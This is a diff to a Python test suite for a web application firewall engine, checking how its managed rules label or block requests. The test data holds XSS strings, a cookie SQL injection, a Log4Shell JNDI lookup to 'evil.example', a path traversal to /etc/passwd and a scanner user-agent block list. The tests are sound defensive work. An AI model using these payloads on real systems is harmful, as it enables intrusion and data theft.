@@ -281,8 +281,10 @@ def test_only_the_inspection_limit_of_a_body_is_inspected() -> None:
         request(body=padding + b'<script>alert(1)</script>"}')
     )
     assert decision.body_bytes_inspected == 16_384
-    # The oversized body is still caught by its size, never by the XSS past the limit.
-    assert decision.managed_rule == "SizeRestrictions_BODY"
+    # The oversized body is labelled by its size, never by the XSS past the limit.
+    labels = [label.rsplit(":", 1)[-1] for label in decision.labels]
+    assert "SizeRestrictions_Body" in labels
+    assert "CrossSiteScripting_Body" not in labels
 
 
 def test_stats_count_requests_per_outcome_and_per_rule() -> None:
@@ -317,6 +319,72 @@ def test_a_lone_surrogate_in_a_json_body_is_inspected_not_a_crash(body: bytes) -
 
 def test_an_attack_next_to_a_lone_surrogate_is_still_seen() -> None:
     engine = WafEngine(DEFAULT_POLICY)
-    blocked = engine.inspect(request(body=b'{"note":"\\ud800<script>alert(1)</script>"}'))
-    assert blocked is not None
-    assert blocked.status == 403
+    decision = engine.evaluate(request(body=b'{"note":"\\ud800<script>alert(1)</script>"}'))
+    assert any(label.endswith(":CrossSiteScripting_Body") for label in decision.labels)
+
+
+# What honest customers write, of each kind the outside probe saw refused. Free text travels in
+# the body, whose managed rules the deployed policy counts (BODY_RULES_COUNTED): they label, never
+# block.
+HONEST_NOTES = [
+    "Door code: press '3' then '#', flat 2B",
+    "Код двери: '1234#', 3 этаж",
+    "Code porte : '4B' puis #, 2e étage",
+    "Please don't drop the box (fragile); deliver 9:00-17:00 or select a neighbour",
+    "Baby sleeps (13:00-15:00), please don't ring. Union Street entrance, table by the door",
+    "Alter the wrapping if needed; truncate the card text to fit: 'Happy 30th!'",
+    "Gift wrap style=floral, ribbon style=gold",
+    "From the car park go ../ down the ramp, then left",
+    "<b>Happy birthday</b> <3 from all of us",
+    "Leave with ${NAME} at no. 12 if we're out",
+]
+
+
+@pytest.mark.parametrize("note", HONEST_NOTES)
+def test_an_honest_note_is_never_refused(note: str) -> None:
+    body = json.dumps({"items": [{"sku": "MUG-01", "quantity": 1}], "note": note}).encode()
+    decision = WafEngine(DEFAULT_POLICY).evaluate(request(body=body))
+    assert not decision.blocked, (decision.terminating_rule_id, decision.managed_rule)
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        "Kinmaps/3.1 (Android 14)",
+        "Roadmapper/2.0",
+        "MagnessusHome/1.2",
+        "SitemapperBot/1.0 (+https://example.com)",
+    ],
+)
+def test_a_product_whose_name_contains_a_scanners_is_no_bad_bot(agent: str) -> None:
+    headers = (("Host", "127.0.0.1"), ("User-Agent", agent), ("Content-Type", "application/json"))
+    assert WafEngine(DEFAULT_POLICY).inspect(request(headers=headers)) is None
+
+
+@pytest.mark.parametrize(
+    "agent", ["nmap/7.94", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "sqlmap/1.8#stable"]
+)
+def test_a_scanner_that_names_itself_is_still_refused(agent: str) -> None:
+    headers = (("Host", "127.0.0.1"), ("User-Agent", agent), ("Content-Type", "application/json"))
+    blocked = WafEngine(DEFAULT_POLICY).evaluate(request(headers=headers))
+    assert blocked.managed_rule == "UserAgent_BadBots_HEADER"
+
+
+def test_every_part_of_a_cookie_is_inspected() -> None:
+    # Split at spaces, the old parser never saw the rest of this value.
+    headers = (*HEADERS, ("Cookie", "session=abc; prefs=a b' OR '1'='1"))
+    decision = WafEngine(DEFAULT_POLICY).evaluate(request(headers=headers))
+    assert decision.managed_rule == "SQLi_COOKIE"
+
+
+@pytest.mark.parametrize(
+    ("body", "label"),
+    [
+        (b'{"note":"\\u0024{jndi:ldap://evil.example/a}"}', "Log4JRCE_Body"),
+        (b'{"note":"..\\/..\\/..\\/etc\\/passwd"}', "GenericLFI_Body"),
+    ],
+)
+def test_body_rules_read_json_escaped_text_decoded_and_label_it(body: bytes, label: str) -> None:
+    decision = WafEngine(DEFAULT_POLICY).evaluate(request(body=body))
+    assert not decision.blocked, "body rules count"
+    assert any(found.endswith(":" + label) for found in decision.labels)
